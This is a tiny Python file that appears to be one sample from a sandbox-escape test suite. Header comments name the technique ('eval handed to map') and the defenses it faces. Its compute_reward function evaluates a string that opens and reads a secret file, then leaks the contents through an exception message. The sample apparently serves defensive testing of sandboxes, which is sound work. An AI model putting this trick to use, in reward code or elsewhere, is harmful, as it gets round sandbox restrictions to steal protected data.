# attack: eval handed to map
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    raise ValueError([*map(eval, ["open('@SECRET@').read()"])])
